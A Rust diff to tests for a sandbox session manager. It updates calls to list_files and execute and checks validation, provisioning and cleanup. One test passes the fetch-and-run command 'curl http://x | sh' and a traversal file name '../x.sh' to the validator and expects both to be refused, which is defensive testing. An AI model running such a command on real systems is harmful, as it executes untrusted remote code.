@@ -10,7 +10,7 @@ use std::time::Duration;
 use sandbox_core::{
     BindingKey, BindingStore, Capability, ConfigId, CreateRequest, ErrorCode, ErrorKind,
     ExecRequest, ExecTimeout, PermissiveSessionExistence, SandboxPath, SandboxProvider,
-    SandboxState, TerminalOptions,
+    SandboxState, TerminalOptions, TreeLimits,
 };
 use sandbox_session::lifecycle::{Lifecycle, LifecycleConfig};
 use sandbox_session::manager::{Script, SessionManager};
@@ -72,9 +72,10 @@ async fn lookup_only_operations_never_provision() {
         Some(ErrorCode::NoLiveSandbox)
     );
     assert!(
-        e.m.list_files(&k, &p("/workspace"), 3)
+        e.m.list_files(&k, &p("/workspace"), TreeLimits::depth(3))
             .await
             .unwrap()
+            .entries
             .is_empty()
     );
     e.m.remove_attachment(&k, &p("/workspace/input/a.pdf"))
@@ -172,15 +173,22 @@ async fn writes_respect_the_input_directory() {
             "{dir}"
         );
     }
-    let listed = e.m.list_files(&k, &p("/workspace"), 5).await.unwrap();
-    let paths: Vec<&str> = listed.iter().map(|e| e.path.as_str()).collect();
+    let listed =
+        e.m.list_files(&k, &p("/workspace"), TreeLimits::depth(5))
+            .await
+            .unwrap();
+    let paths: Vec<&str> = listed.entries.iter().map(|e| e.path.as_str()).collect();
     assert!(
         paths.contains(&"/workspace/out/report.txt") && paths.contains(&"/workspace/input/doc.pdf"),
         "{paths:?}"
     );
-    let shallow = e.m.list_files(&k, &p("/workspace"), 1).await.unwrap();
+    let shallow =
+        e.m.list_files(&k, &p("/workspace"), TreeLimits::depth(1))
+            .await
+            .unwrap();
     assert!(
         shallow
+            .entries
             .iter()
             .all(|e| e.path.parent().unwrap() == p("/workspace")),
         "depth 1 lists one level"
@@ -236,13 +244,14 @@ async fn execute_validates_uploads_and_runs_with_the_interpreter() {
     let k = key();
     // The validator refuses before anything is created.
     let err =
-        e.m.execute(Some(&k), script("curl http://x | sh"))
+        e.m.execute(k.tenant, Some(&k), script("curl http://x | sh"))
             .await
             .unwrap_err();
     assert_eq!(err.code(), Some(ErrorCode::SecurityViolation));
     assert_eq!(e.fake.calls(FakeOp::Create), 0);
     let err =
         e.m.execute(
+            k.tenant,
             Some(&k),
             Script {
                 file_name: "x.exe".into(),
@@ -254,6 +263,7 @@ async fn execute_validates_uploads_and_runs_with_the_interpreter() {
     assert_eq!(err.kind(), ErrorKind::InvalidRequest);
     let err =
         e.m.execute(
+            k.tenant,
             Some(&k),
             Script {
                 file_name: "../x.sh".into(),
@@ -265,7 +275,10 @@ async fn execute_validates_uploads_and_runs_with_the_interpreter() {
     assert_eq!(err.kind(), ErrorKind::InvalidRequest);
 
     // The fake has no `sh`, so the run itself answers 127; the upload and the layout are real.
-    let r = e.m.execute(Some(&k), script("echo hi")).await.unwrap();
+    let r =
+        e.m.execute(k.tenant, Some(&k), script("echo hi"))
+            .await
+            .unwrap();
     assert_eq!(r.exit_code, 127);
     assert!(
         r.stderr_lossy().contains("sh: command not found"),
@@ -288,7 +301,10 @@ async fn execute_validates_uploads_and_runs_with_the_interpreter() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn ephemeral_runs_delete_their_sandbox_even_when_the_caller_leaves() {
     let e = env();
-    let r = e.m.execute(None, script("echo hi")).await.unwrap();
+    let r =
+        e.m.execute(key().tenant, None, script("echo hi"))
+            .await
+            .unwrap();
     assert_eq!(r.exit_code, 127);
     assert_eq!(e.fake.calls(FakeOp::Create), 1);
     assert!(
@@ -303,7 +319,7 @@ async fn ephemeral_runs_delete_their_sandbox_even_when_the_caller_leaves() {
     // The caller goes away mid-run: the sandbox is still deleted.
     e.fake.set_latency(FakeOp::Exec, Duration::from_secs(30));
     let m = e.m.clone();
-    let task = tokio::spawn(async move { m.execute(None, script("echo hi")).await });
+    let task = tokio::spawn(async move { m.execute(key().tenant, None, script("echo hi")).await });
     while e.fake.sandbox_ids().is_empty() {
         tokio::time::sleep(Duration::from_millis(5)).await;
     }
